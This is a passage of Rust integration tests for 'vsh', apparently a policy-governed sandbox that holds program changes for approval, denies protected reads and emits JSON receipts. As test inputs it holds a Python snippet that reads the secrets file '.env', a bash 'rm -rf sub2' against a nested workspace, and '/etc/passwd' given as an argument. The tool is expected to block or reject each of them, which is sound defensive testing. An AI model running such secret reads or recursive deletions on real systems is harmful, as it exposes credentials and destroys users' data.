        let same: serde_json::Value = serde_json::from_slice(&vsh(&["schema", short], None).stdout).unwrap();
        assert_eq!(same, schema, "{short}");
    }
    let unknown = vsh(&["schema", "vsh.nothing/1"], None);
    assert_eq!(unknown.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&unknown.stderr).contains("vsh.receipt/1"));
    // The schemas check what they say: another document's name, a missing
    // field or a wrong type fails.
    let receipt = valid_document(&vsh(&["run", "--json", "--workspace", dir.path().to_str().unwrap(), "-"], Some("1")));
    let mut renamed = receipt.clone();
    renamed["schema"] = "vsh.receipt/2".into();
    assert!(!violations_of("vsh.receipt/1", &renamed).is_empty());
    assert!(!violations_of("vsh.show/1", &receipt).is_empty(), "a receipt is not a review");
    let mut missing = receipt.clone();
    missing.as_object_mut().unwrap().remove("transaction");
    assert!(!schema_violations(&missing).is_empty());
    let mut typed = receipt;
    typed["changed_paths"] = "none".into();
    assert!(!schema_violations(&typed).is_empty());
}

#[test]
fn every_json_output_is_valid_against_its_committed_schema() {
    let dir = tempfile::tempdir().unwrap();
    let ws_path = dir.path().join("ws");
    write(&ws_path, "a.txt", "one\n");
    write(&ws_path, "gone.txt", "bye\n");
    write(&ws_path, ".env", "S=1\n");
    let ws = ws_path.to_str().unwrap();
    let policy = dir.path().join("policy.toml");
    std::fs::write(&policy, "version = 1\nprofile = \"strict\"\n").unwrap();
    let init = valid_document(&vsh(&["init", "--json", "--workspace", ws, "--policy", policy.to_str().unwrap()], None));
    assert_eq!(init["schema"], "vsh.init/1");
    let shown = valid_document(&vsh(&["policy", "show", "--json", "--workspace", ws], None));
    assert_eq!((shown["profile"].as_str(), shown["recorded"].as_bool()), (Some("strict"), Some(true)));
    let check = valid_document(&vsh(&["policy", "check", "--json", policy.to_str().unwrap()], None));
    assert_eq!(check["digest"], shown["digest"], "the recorded file is the shown policy");
    assert_eq!(check["profile"], "strict");
    // Receipts of every decision, with and without detail.
    let edit = "from pathlib import Path\nPath('a.txt').write_text('two\\n')\nprint('\\u00e9dited')\n{'n': 1, 'pair': (1, 2.5), 'set': {3}}";
    let pending = valid_document(&vsh(&["run", "--json", "--full", "--workspace", ws, "-"], Some(edit)));
    assert_eq!(pending["decision"]["kind"], "pending-approval");
    assert_eq!(pending["value"]["pair"], serde_json::json!([1, 2.5]));
    assert!(pending["value"]["set"]["$repr"].is_string(), "{pending}");
    let id = pending["transaction"].as_str().unwrap().to_owned();
    let denied = valid_document(&vsh(
        &["run", "--json", "--workspace", ws, "-"],
        Some("from pathlib import Path\ntry:\n    Path('.env').read_text()\nexcept PermissionError:\n    pass"),
    ));
    assert_eq!(denied["decision"]["kind"], "denied");
    assert_eq!(denied["decision"]["denied"][0]["access"], "content-read");
    let shown = valid_document(&vsh(&["show", "--json", &id[..8], "--workspace", ws], None));
    assert_eq!(shown["schema"], "vsh.show/1");
    assert!(shown["receipt"]["review"][0]["hunks"].as_str().unwrap().contains("+two"), "{shown}");
    assert_eq!(shown["history"][0]["state"], "pending-approval");
    assert!(shown["program"].as_str().unwrap().contains("write_text"));
    // ux53 #5: the record is labelled as the listings label it, intent or not.
    assert_eq!(shown["record"]["label"], "# Path('a.txt').write_text('two\\n')", "{shown}");
    // And says what to do next, as the text does.
    let short = &id[..12];
    assert_eq!(shown["receipt"]["next"], format!("vsh approve {short} && vsh commit {short}"));
    assert_eq!(pending["next"], shown["receipt"]["next"]);
    valid_document(&vsh(&["pending", "--json", "--workspace", ws], None));
    let approved = valid_document(&vsh(&["approve", "--json", &id, "--workspace", ws], None));
    assert_eq!((approved["state"].as_str(), approved["transaction"].as_str()), (Some("approved"), Some(id.as_str())));
    assert!(approved["approval"]["expires_ms"].as_u64() > approved["approval"]["issued_ms"].as_u64());
    let other = "from pathlib import Path\nPath('other.txt').write_text('x')";
    let other = valid_document(&vsh(&["run", "--json", "--workspace", ws, "-"], Some(other)));
    let rejected =
        valid_document(&vsh(&["reject", "--json", other["transaction"].as_str().unwrap(), "--workspace", ws], None));
    assert_eq!(rejected["state"], "rejected");
    // Rejecting again changes nothing and says so, exit 0.
    let again = vsh(&["reject", other["transaction"].as_str().unwrap(), "--workspace", ws], None);
    assert_eq!(again.status.code(), Some(0), "{}", String::from_utf8_lossy(&again.stderr));
    assert!(String::from_utf8_lossy(&again.stdout).contains("already rejected"));
    // Denied work can never commit: rejecting it changes nothing and says so, exit 0 (ux53 #7).
    let denied_id = denied["transaction"].as_str().unwrap();
    let final_already = vsh(&["reject", denied_id, "--workspace", ws], None);
    assert_eq!(final_already.status.code(), Some(0), "{}", String::from_utf8_lossy(&final_already.stderr));
    assert!(String::from_utf8_lossy(&final_already.stdout).contains("already denied"));
    let as_json = valid_document(&vsh(&["reject", "--json", denied_id, "--workspace", ws], None));
    assert_eq!(
        (as_json["state"].as_str(), as_json["label"].as_str()),
        (Some("denied"), Some("# Path('.env').read_text()"))
    );
    let committed = valid_document(&vsh(&["commit", "--json", &id, "--workspace", ws], None));
    assert_eq!(committed["state"], "committed");
    assert!(committed["commit"]["verified_paths"].as_u64().unwrap() >= 1);
    // Asked again, the same document: the committed work's receipt (ux56 #5).
    let again = valid_document(&vsh(&["commit", "--json", &id, "--workspace", ws], None));
    assert_eq!((again["schema"].as_str(), again["state"].as_str()), (Some("vsh.receipt/1"), Some("committed")));
    assert_eq!(again["changes"], committed["changes"]);
    let log = valid_document(&vsh(&["log", "--json", "--workspace", ws], None));
    assert!(log["transactions"].as_array().unwrap().iter().any(|row| row["transaction"] == id.as_str()));
    valid_document(&vsh(&["gc", "--json", "--workspace", ws], None));
    valid_document(&vsh(&["recover", "--json", "--workspace", ws], None));
    let restore = valid_document(&vsh(&["recover", "--json", "--restore", &id, "--workspace", ws], None));
    // Work that committed whole has nothing to restore, and says how to undo it (ux56 #7).
    assert!(restore["message"].as_str().unwrap().contains("it committed whole"), "{restore}");
    // A committed transaction cannot be rejected: said in a line, no store jargon.
    let late = vsh(&["reject", &id, "--workspace", ws], None);
    assert_eq!(late.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&late.stderr);
    assert!(stderr.contains("cannot be rejected: it is committed") && !stderr.contains("store error"), "{stderr}");
    // Errors, of the request and of vsh.
    let usage = valid_document(&vsh(&["run", "--json", "--workspace", ws, "/nonexistent/program.py"], None));
    assert_eq!((usage["kind"].as_str(), usage["exit_code"].as_u64()), (Some("request"), Some(1)));
    let missing = valid_document(&vsh(&["show", "--json", "abcdef", "--workspace", ws], None));
    assert_eq!(missing["kind"], "approval");
    let leak = valid_document(&vsh(
        &["run", "--json", "--workspace", ws, "-"],
        Some("from pathlib import Path\nPath('.env').read_text()"),
    ));
    assert_eq!((leak["schema"].as_str(), leak["state"].as_str()), (Some("vsh.receipt/1"), Some("denied")), "{leak}");
    assert_eq!(leak["decision"]["denied"][0]["path"], ".env", "{leak}");
    assert!(leak["exception"].as_str().unwrap().ends_with("PermissionError: [Errno 13] Permission denied: '.env'"));
    let demo = valid_document(&vsh(&["demo", "--json"], None));
    assert_eq!(
        (demo["commit"]["state"].as_str(), demo["denied"]["state"].as_str()),
        (Some("committed"), Some("denied"))
    );
    // The doctor, whatever this machine has.
    let doctor = valid_document(&vsh(&["doctor", "--json", "--workspace", ws], None));
    assert_eq!(doctor["schema"], "vsh.doctor/1");
}

/// `vsh` run in `cwd` (after clearing the environment).
fn vsh_in(cwd: &Path, args: &[&str], stdin: Option<&str>) -> Output {
    let input = std::io::Cursor::new(stdin.unwrap_or("").to_owned().into_bytes());
    vsh_fed_in(Some(cwd), args, input)
}

/// `vsh policy check` in a workspace notes each of the operator's patterns
/// no path there matches, with the name it likely meant (ux80 L6: a
/// misspelt rule protected nothing, and the check said "valid").
#[test]
fn a_policy_check_names_patterns_that_match_nothing() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "migrations/001_init.sql", "create table t;\n");
    write(dir.path(), "src/app.py", "x = 1\n");
    write(dir.path(), ".git/HEAD", "ref: refs/heads/main\n");
    assert_eq!(vsh(&["init", "-q", "--workspace", dir.path().to_str().unwrap()], None).status.code(), Some(0));
    write(
        dir.path(),
        "p.toml",
        concat!(
            "version = 1\n[[protect]]\npattern = \"migratoins/**\"\naccess = \"delete\"\n",
            "[[protect]]\npattern = \"src/*.py\"\naccess = \"delete\"\n",
            "[[review]]\npattern = \"**/HEAD\"\nchanges = \"delete\"\n",
            "[[review]]\npattern = \".git/HEAD\"\nchanges = \"delete\"\n",
        ),
    );
    let checked = vsh_in(&dir.path().join("src"), &["policy", "check", "../p.toml"], None);
    assert_eq!(checked.status.code(), Some(0));
    let notes = String::from_utf8_lossy(&checked.stderr);
    let ws = dir.path().display();
    assert!(
        notes.contains(&format!(
            "[[protect]] pattern `migratoins/**` matches no path in {ws} now (did you mean `migrations/**`?)"
        )),
        "{notes}"
    );
    // What .git holds is not looked at, nor judged; a pattern that matches is not named.
    assert!(notes.contains("[[review]] pattern `**/HEAD` matches no path"), "{notes}");
    assert!(!notes.contains("src/"), "{notes}");
    assert_eq!(notes.lines().count(), 2, "{notes}");
    // Spellings are guessed for the first 20 patterns only (sec89 L4: each
    // guess measures against every name).
    let rule = "[[protect]]\npattern = \"migratoins/aN\"\naccess = \"delete\"\n";
    let many: Vec<String> = (0..21).map(|n| rule.replace('N', &n.to_string())).collect();
    let many = many.concat();
    write(dir.path(), "many.toml", &format!("version = 1\n{many}"));
    let checked = vsh_in(dir.path(), &["policy", "check", "many.toml"], None);
    let notes = String::from_utf8_lossy(&checked.stderr);
    assert_eq!(notes.lines().filter(|line| line.contains("matches no path")).count(), 21, "{notes}");
    assert_eq!(notes.matches("did you mean").count(), 20, "{notes}");
    // Before `vsh init`, against the directory it would make a workspace
    // of; and `vsh init --policy` says it too (ux86 L3: checked first, the
    // misspelling was "valid", and init recorded it without a word).
    let project = tempfile::tempdir().unwrap();
    write(project.path(), "migrations/001_init.sql", "create table t;\n");
    let policy = dir.path().join("p.toml");
    let before = vsh_in(project.path(), &["policy", "check", policy.to_str().unwrap()], None);
    let notes = String::from_utf8_lossy(&before.stderr);
    assert!(notes.contains("`migratoins/**` matches no path") && notes.contains("`migrations/**`"), "{notes}");
    assert!(!project.path().join(".vsh").exists(), "a check makes no workspace");
    // From a directory inside a repository not yet a workspace: its top, as
    // `vsh init` there would take (ux87 L1: the subdirectory was judged).
    write(project.path(), ".git/HEAD", "ref: refs/heads/main\n");
    let inside = vsh_in(&project.path().join("migrations"), &["policy", "check", policy.to_str().unwrap()], None);
    let notes = String::from_utf8_lossy(&inside.stderr);
    assert!(notes.contains("`migratoins/**` matches no path") && notes.contains("`migrations/**`"), "{notes}");
    assert!(!notes.contains("/migrations now"), "judged the repository's top: {notes}");
    let init = vsh_in(project.path(), &["init", "--policy", policy.to_str().unwrap()], None);
    assert_eq!(init.status.code(), Some(0));
    let notes = String::from_utf8_lossy(&init.stderr);
    assert!(notes.contains("vsh: note: [[protect]] pattern `migratoins/**` matches no path"), "{notes}");
}

#[test]
fn commands_find_the_enclosing_workspace_like_git_and_never_make_one_to_read() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    write(&ws, "sub/deeper/a.txt", "a\n");
    let policy = dir.path().join("policy.toml");
    std::fs::write(&policy, "version = 1\nprofile = \"strict\"\n").unwrap();
    assert_eq!(vsh_in(&ws, &["init", "--policy", policy.to_str().unwrap()], None).status.code(), Some(0));
    // From a subdirectory, the workspace's own policy applies (strict escalates).
    let deeper = ws.join("sub/deeper");
    let run = vsh_in(
        &deeper,
        &["--detailed-exitcode", "run", "--mode", "auto", "-"],
        Some("from pathlib import Path\nPath('b.txt').write_text('b')"),
    );
    assert_eq!(run.status.code(), Some(4), "{}", String::from_utf8_lossy(&run.stderr));
    assert!(!deeper.join(".vsh").exists() && !ws.join("sub/.vsh").exists(), "no second workspace was made");
    assert!(!ws.join("b.txt").exists());
    let pending = vsh_in(&deeper, &["pending"], None);
    assert!(String::from_utf8_lossy(&pending.stdout).contains("pending-approval"), "{pending:?}");
    // Outside any workspace, reading commands refuse and make nothing.
    let outside = dir.path().join("elsewhere");
    std::fs::create_dir(&outside).unwrap();
    for args in [&["pending"][..], &["log"], &["show", "abcdef"], &["gc"]] {
        let refused = vsh_in(&outside, args, None);
        assert_eq!(refused.status.code(), Some(1), "{args:?}");
        assert!(String::from_utf8_lossy(&refused.stderr).contains("not in a vsh workspace"), "{args:?}: {refused:?}");
    }
    // `policy show` there prints the policy a new workspace runs under, a
    // file to start from: it is valid and is the default profile's.
    let shown = vsh_in(&outside, &["policy", "show"], None);
    assert_eq!(shown.status.code(), Some(0), "{shown:?}");
    let text = String::from_utf8_lossy(&shown.stdout);
    assert!(text.starts_with("# No vsh workspace here") && text.contains("# [[protect]]"), "{text}");
    std::fs::write(dir.path().join("start.toml"), text.as_bytes()).unwrap();
    let checked = vsh_in(&outside, &["policy", "check", "--json", "../start.toml"], None);
    assert_eq!(valid_document(&checked)["profile"], "balanced");
    let explicit = vsh_in(&outside, &["pending", "--workspace", outside.to_str().unwrap()], None);
    assert!(String::from_utf8_lossy(&explicit.stderr).contains("is not a vsh workspace"), "{explicit:?}");
    assert!(!outside.join(".vsh").exists());
}

#[test]
fn a_reader_that_stops_reading_ends_the_command_quietly() {
    use std::io::{Read as _, Write as _};
    let dir = tempfile::tempdir().unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_vsh"))
        .args(["run", "--json", "--workspace", dir.path().to_str().unwrap(), "-"])
        .env_clear()
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(b"for i in range(3000):\n    print('x' * 100)\n").unwrap();
    let mut start = [0_u8; 16];
    child.stdout.take().unwrap().read_exact(&mut start).unwrap();
    // The read end is closed now, as `vsh ... | head -c 16` closes it.
    let output = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(141), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
}

#[test]
fn a_preview_lists_what_it_changes_and_prints_hunks_only_when_asked() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "one\n");
    let ws = dir.path().to_str().unwrap();
    let program = "from pathlib import Path\nPath('a.txt').write_text('two\\n')\nPath('new.txt').write_text('n\\n')";
    let preview = vsh(&["run", "--workspace", ws, "-"], Some(program));
    let text = String::from_utf8_lossy(&preview.stdout);
    assert!(text.contains("  modify  a.txt  [file 644 4B "), "{text}");
    assert!(text.contains("  create  new.txt  [- -> file 644 2B "), "{text}");
    assert!(!text.contains("+two"), "no hunks without --full: {text}");
    let full = vsh(&["run", "--workspace", ws, "--full", "-"], Some(program));
    assert!(String::from_utf8_lossy(&full.stdout).contains("+two"), "hunks with --full");
    let json = vsh(&["run", "--workspace", ws, "--json", "-"], Some(program));
    let document: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    let paths: Vec<&str> =
        document["changes"].as_array().unwrap().iter().map(|change| change["path"].as_str().unwrap()).collect();
    assert_eq!(paths, ["a.txt", "new.txt"]);
    // A long list is cut short, and says where the rest is.
    let many = "from pathlib import Path\nfor i in range(60):\n    Path(f'f{i:02}.txt').write_text('x')";
    let preview = vsh(&["run", "--workspace", ws, "-"], Some(many));
    let text = String::from_utf8_lossy(&preview.stdout);
    assert_eq!(text.lines().filter(|line| line.starts_with("  create  f")).count(), 50, "{text}");
    assert!(text.contains(&format!("  ... and 10 more (vsh show {} lists them all", &id_of(&preview)[..12])), "{text}");
}

/// A workspace is made inside another only by `vsh init`, with a warning;
/// `vsh run --workspace SUB` of a directory of a workspace is refused,
/// naming the enclosing one, as is `vsh pending --workspace SUB` (ux61 3:
/// a mistyped `--workspace` made a nested workspace under the default
/// policy, which every later command there used).
#[test]
fn a_command_that_makes_a_workspace_says_so_and_only_init_makes_one_inside_another() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "sub/f.txt", "f\n");
    let ws = dir.path().to_str().unwrap();
    let stderr = |output: &Output| String::from_utf8_lossy(&output.stderr).into_owned();
    let first = vsh(&["run", "--workspace", ws, "-"], Some("1"));
    assert!(
        stderr(&first).contains(&format!("vsh: made a new workspace at {ws} (its data in .vsh/ there")),
        "{first:?}"
    );
    assert!(!stderr(&first).contains("inside the workspace"), "{first:?}");
    let second = vsh(&["run", "--workspace", ws, "-"], Some("1"));
    assert!(!stderr(&second).contains("made a new workspace"), "only once: {second:?}");
    let other = tempfile::tempdir().unwrap();
    let quiet = vsh(&["run", "-q", "--workspace", other.path().to_str().unwrap(), "-"], Some("1"));
    assert!(quiet.stderr.is_empty(), "quiet: {quiet:?}");
    assert!(other.path().join(".vsh").is_dir());
    let sub = dir.path().join("sub");
    let nested = vsh(&["run", "--workspace", sub.to_str().unwrap(), "-"], Some("1"));
    assert_eq!(nested.status.code(), Some(1), "{nested:?}");
    let said = stderr(&nested);
    assert!(said.contains(&format!("lies inside the workspace at {ws}: vsh makes no workspace")), "{said}");
    assert!(said.contains(&format!("give --workspace {ws}, or `vsh init --workspace")), "{said}");
    assert!(!sub.join(".vsh").exists(), "nothing made");
    let listed = vsh(&["pending", "--workspace", sub.to_str().unwrap()], None);
    let said = stderr(&listed);
    assert!(said.contains(&format!("it lies inside the workspace at {ws}; give --workspace {ws}")), "{said}");
    let served = vsh(&["serve", "--workspace", sub.to_str().unwrap()], Some(""));
    assert!(!served.status.success() && stderr(&served).contains("vsh makes no workspace inside"), "{served:?}");
    // Run from inside it without --workspace, the enclosing one is used.
    let inside = vsh_at(&sub, None, &["run", "-"], "");
    assert!(inside.status.success() && !sub.join(".vsh").exists(), "{inside:?}");
    // `vsh init` makes one there when asked, and warns.
    let made = vsh(&["init", "--workspace", sub.to_str().unwrap()], None);
    assert!(stderr(&made).contains(&format!("lies inside the workspace at {ws}")), "{made:?}");
    assert!(sub.join(".vsh").is_dir());
    // Named as `.`, it is said where it is, and the enclosing one is found (ux51).
    std::fs::create_dir(dir.path().join("sub2")).unwrap();
    let dotted = Command::new(env!("CARGO_BIN_EXE_vsh"))
        .args(["init", "--workspace", "."])
        .current_dir(dir.path().join("sub2"))
        .env_clear()
        .output()
        .unwrap();
    let said = stderr(&dotted);
    let sub2 = std::fs::canonicalize(dir.path().join("sub2")).unwrap();
    assert!(said.contains(&format!("{} lies inside the workspace at", sub2.display())), "{said}");
    assert!(
        said.contains("use its own policy and data from now on") && said.contains("still change its files"),
        "{said}"
    );
    // `vsh init` says what it made once, with its policy (ux62 5).
    assert!(!said.contains("made a new workspace"), "{said}");
    // The outer workspace's programs cannot remove it, and are told why.
    let removal = vsh(&["run", "--language", "bash", "--workspace", ws, "-"], Some("rm -rf sub2"));
    let said = format!("{}{}", String::from_utf8_lossy(&removal.stdout), stderr(&removal));
    assert!(said.contains("a nested workspace's .vsh"), "{said}");
}

/// sec66 S2: a `.vsh` with no policy of its own inside a workspace that
/// records one (made through a bind mount of a directory, or by an older
/// vsh) took that directory out of the workspace's strict policy, silently.
/// The enclosing workspace's policy governs it; only `vsh init` makes it a
/// workspace of its own.
#[test]
fn a_stray_workspace_without_a_policy_inside_another_is_governed_by_it() {
    let outer = tempfile::tempdir().unwrap();
    let ws = outer.path().to_str().unwrap();
    write(outer.path(), "sub/f.txt", "f\n");
    assert!(vsh(&["init", "-q", "--profile", "strict", "--workspace", ws], None).status.success());
    // A workspace made elsewhere by a run (no policy recorded), moved in.
    let other = tempfile::tempdir().unwrap();
    assert!(vsh(&["run", "-q", "--workspace", other.path().to_str().unwrap(), "-"], Some("1")).status.success());
    let sub = outer.path().join("sub");
    std::fs::rename(other.path().join(".vsh"), sub.join(".vsh")).unwrap();
    let in_sub = |args: &[&str], stdin: &str| vsh_at(&sub, None, args, stdin);
    let held = in_sub(&["run", "--mode", "auto", "--json", "-"], "vsh_write('g.txt', 'g')");
    let receipt: serde_json::Value = serde_json::from_slice(&held.stdout).unwrap();
    assert_eq!(receipt["state"], "pending-approval", "strict governs it: {receipt}");
    assert!(!sub.join("g.txt").exists());
    let listed = vsh(&["pending", "--workspace", ws], None);
    assert!(String::from_utf8_lossy(&listed.stdout).contains(&receipt["transaction"].as_str().unwrap()[..12]));
    let named = vsh(&["pending", "--workspace", sub.to_str().unwrap()], None);
    let said = String::from_utf8_lossy(&named.stderr);
    assert!(!named.status.success() && said.contains(&format!("inside the workspace at {ws}")), "{said}");
    let ran = vsh(&["run", "--workspace", sub.to_str().unwrap(), "-"], Some("1"));
    assert!(!ran.status.success() && String::from_utf8_lossy(&ran.stderr).contains("vsh init --workspace"), "{ran:?}");
    // Made a workspace of its own on purpose, it is one.
    assert!(vsh(&["init", "-q", "--workspace", sub.to_str().unwrap()], None).status.success());
    let own = in_sub(&["run", "--mode", "auto", "--json", "-"], "vsh_write('g.txt', 'g')");
    let receipt: serde_json::Value = serde_json::from_slice(&own.stdout).unwrap();
    assert_eq!(receipt["state"], "committed", "{receipt}");
}

#[test]
fn a_usage_error_asked_for_json_is_a_json_error_too() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    let cases = [
        (vec!["show", "--json"], "<TX>"),
        (vec!["run", "--json", "--timeout", "5x", "-w", ws, "p.py"], "5x"),
        (vec!["exec", "--json", "-w", ws], "not provided: <COMMAND>"),
        (vec!["exec", "--json", "-w", ws, "--pass-env", "VSH_TEST_SET_NOWHERE", "--", "true"], "VSH_TEST_SET_NOWHERE"),
        (vec!["exec", "--json", "-w", ws, "--tool", "/etc/passwd", "--", "true"], "/etc/passwd: not a directory"),
        (
            vec!["exec", "--json", "-w", ws, "--allow-network", "all", "--allow-port", "5432", "--", "true"],
            "every port",
        ),
    ];
    for (args, said) in cases {
        let output = vsh(&args, None);
        assert_eq!(output.status.code(), Some(2), "{args:?}");
        let document: serde_json::Value = serde_json::from_slice(&output.stdout)
            .unwrap_or_else(|error| panic!("{args:?}: {error}: {}", String::from_utf8_lossy(&output.stdout)));
        assert_eq!(document["schema"], "vsh.error/1", "{args:?}");
        assert_eq!(document["exit_code"], 2, "{args:?}");
        assert!(document["message"].as_str().unwrap().contains(said), "{args:?}: {document}");
        assert!(!output.stderr.is_empty(), "clap's text stays on stderr");
    }
    // A command given without `--` is told how to write it.
    let forgot = vsh(&["exec", "ls", "-la"], None);
    assert_eq!(forgot.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&forgot.stderr);
    assert!(stderr.contains("tip: put the command after `--`: vsh exec -- ls -la"), "{stderr}");
    // Without --json, or with it only as a command's own argument, stdout stays empty.
    for args in [vec!["show"], vec!["exec", "--bogus", "--", "echo", "--json"]] {
        let output = vsh(&args, None);
        assert_eq!(output.status.code(), Some(2), "{args:?}");
        assert!(output.stdout.is_empty(), "{args:?}");
    }
}

/// ux57 #7: a second commit of stale work said only "cannot be committed
/// from state stale"; it says what stale means and what to do. ux82 L8: its
/// JSON named no path: it says where the workspace differs, as the first.
#[test]
fn committing_stale_work_again_says_what_stale_means() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let ws = dir.path().to_str().unwrap();
    let id = id_of(&vsh(&["run", "--workspace", ws, "-"], Some("vsh_write('b.txt', vsh_read('a.txt'))")));
    write(dir.path(), "a.txt", "changed, and longer\n");
    let mut documents = Vec::new();
    for attempt in 0..2 {
        let late = vsh(&["commit", &id, "--workspace", ws], None);
        let stderr = String::from_utf8_lossy(&late.stderr);
        assert_eq!(late.status.code(), Some(6), "{attempt}: {stderr}");
        assert!(stderr.contains(&format!("vsh rerun {}", &id[..12])), "{attempt}: {stderr}");
        assert!(stderr.contains("a.txt  size or mode changed since the run looked at it"), "{attempt}: {stderr}");
        assert!(stderr.contains("it can never be committed as it is"), "{attempt}: {stderr}");
        let json = vsh(&["commit", &id, "--workspace", ws, "--json"], None);
        assert_eq!(json.status.code(), Some(6));
        let document: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
        assert_eq!(
            (&document["kind"], &document["paths"]),
            (&serde_json::json!("commit"), &serde_json::json!(["a.txt"])),
            "{document}"
        );
        documents.push(document);
    }
    assert_eq!(documents[0], documents[1]);
    // Put back as it was, it is still stale, recorded so: said so.
    write(dir.path(), "a.txt", "a\n");
    let late = vsh(&["commit", &id, "--workspace", ws], None);
    let stderr = String::from_utf8_lossy(&late.stderr);
    assert_eq!(late.status.code(), Some(6), "{stderr}");
    assert!(stderr.contains("it went stale: the workspace changed under what it read"), "{stderr}");
    assert!(!dir.path().join("b.txt").exists());
}

/// ux61 2: approving pending work the workspace moved under exited 6 but
/// left it pending, so `vsh commit` sent its reviewer back to approve and
/// `vsh pending` listed it forever. It is recorded stale: every command
/// agrees, with exit 6, and sends to `vsh rerun`.
/// ux75 H1: pending work that only looked at a file (test discovery stats
/// every file) went stale when someone edited it, and the operator had to
/// rerun it and review the same changes again. `vsh rerun --approve-same`
/// carries the review over to a rerun whose changes are byte for byte the
/// same, and only then; the stale approval names it.
#[test]
fn a_rerun_that_makes_the_same_changes_carries_the_review_over() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "README.md", "readme\n");
    write(dir.path(), "old.txt", "old\n");
    write(dir.path(), "notes.txt", "notes\n");
    let ws = dir.path().to_str().unwrap();
    // A file changed within the last 100 ms is known by its digest, one
    // settled by its stamp: both runs see old.txt settled, so each diff
    // knows it the same way (a first run that saw it fresh makes the rerun's
    // diff differ, and the rerun wait for a review of its own: the safe
    // side, which a fresh clone's CI met).
    std::thread::sleep(std::time::Duration::from_millis(250));
    // It looks at README.md's size only, and removes old.txt: it waits.
    let looks = "from pathlib import Path\nn = Path('README.md').stat().st_size\nPath('old.txt').unlink()";
    let id = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(looks)));
    write(dir.path(), "README.md", "readme, edited meanwhile\n");
    let approve = vsh(&["approve", &id, "--workspace", ws], None);
    let stderr = String::from_utf8_lossy(&approve.stderr);
    assert_eq!(approve.status.code(), Some(6), "{stderr}");
    assert!(stderr.contains(&format!("`vsh rerun {} --approve-same`", &id[..12])), "{stderr}");
    let rerun = vsh(&["rerun", &id, "--approve-same", "--workspace", ws], None);
    let said = String::from_utf8_lossy(&rerun.stderr);
    assert_eq!(rerun.status.code(), Some(0), "{said}");
    let again = id_of(&rerun);
    assert!(said.contains(&format!("approved {}", &again[..12])), "{said}");
    // No one had approved the first run's changes: the approval is said to
    // be the operator's own, not a review carried over (sec82 3).
    assert!(said.contains("which no one had approved: this approval is yours"), "{said}");
    let committed = vsh(&["commit", &again, "--workspace", ws], None);
    assert_eq!(committed.status.code(), Some(0));
    // Its receipt says it was reviewed (ux75 L9: "pending-approval" alone).
    let text = String::from_utf8_lossy(&committed.stdout);
    assert!(text.contains("decision     pending-approval, then approved by a reviewer"), "{text}");
    assert!(!dir.path().join("old.txt").exists());
    // In auto mode the approved rerun is committed at once (ux77). Here the
    // first run sees old2.txt just written (known by its digest), the
    // rerun settled (by its stamp): the same version of it, the same
    // changes (a fresh clone's CI met the review refused).
    write(dir.path(), "old2.txt", "old\n");
    let looks2 = "from pathlib import Path\nn = Path('README.md').stat().st_size\nPath('old2.txt').unlink()";
    let id2 = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(looks2)));
    write(dir.path(), "README.md", "readme, edited twice\n");
    assert_eq!(vsh(&["approve", &id2, "--workspace", ws], None).status.code(), Some(6));
    std::thread::sleep(std::time::Duration::from_millis(250));
    let auto =
        vsh(&["--detailed-exitcode", "rerun", &id2, "--approve-same", "--mode", "auto", "--workspace", ws], None);
    assert_eq!(auto.status.code(), Some(0), "{}", String::from_utf8_lossy(&auto.stderr));
    assert!(!dir.path().join("old2.txt").exists());
    // Nor from work an operator rejected, nor work that still waits (sec81 3).
    write(dir.path(), "kept.txt", "kept\n");
    let removes = "from pathlib import Path\nPath('kept.txt').unlink()";
    let waiting = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(removes)));
    let copy = vsh(&["rerun", &waiting, "--again", "--approve-same", "--workspace", ws], None);
    let said = String::from_utf8_lossy(&copy.stderr);
    assert!(said.contains("did not go stale or lapse waiting for a review"), "{said}");
    assert_eq!(vsh(&["reject", &waiting, "--workspace", ws], None).status.code(), Some(0));
    let copy = vsh(&["rerun", &waiting, "--again", "--approve-same", "--workspace", ws], None);
    let said = String::from_utf8_lossy(&copy.stderr);
    assert!(said.contains("an operator rejected a run of this work"), "{said}");
    let shown: serde_json::Value =
        serde_json::from_slice(&vsh(&["show", &id_of(&copy), "--workspace", ws, "--json"], None).stdout).unwrap();
    assert_eq!(shown["record"]["state"], "pending-approval", "{shown}");
    // Work whose changes the edit changed is reviewed anew.
    write(dir.path(), "gone.txt", "gone\n");
    let appends = "from pathlib import Path\np = Path('notes.txt')\np.write_text(p.read_text() + 'more\\n')\n\
                   Path('gone.txt').unlink()";
    let id = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(appends)));
    write(dir.path(), "notes.txt", "notes, edited meanwhile\n");
    assert_eq!(vsh(&["approve", &id, "--workspace", ws], None).status.code(), Some(6));
    let rerun = vsh(&["rerun", &id, "--approve-same", "--workspace", ws], None);
    let said = String::from_utf8_lossy(&rerun.stderr);
    let again = id_of(&rerun);
    // Where (ux87 L4: no path was named): notes.txt, left otherwise.
    let differ = format!("{} changes other than {} did, at notes.txt (left otherwise)", &again[..12], &id[..12]);
    assert!(said.contains(&differ), "{said}");
    let shown: serde_json::Value =
        serde_json::from_slice(&vsh(&["show", &again, "--workspace", ws, "--json"], None).stdout).unwrap();
    assert_eq!(shown["record"]["state"], "pending-approval", "{shown}");
    assert!(dir.path().join("gone.txt").exists());
}

#[test]
fn approving_stale_work_records_it_stale_for_every_command() {
    let dir = tempfile::tempdir().unwrap();
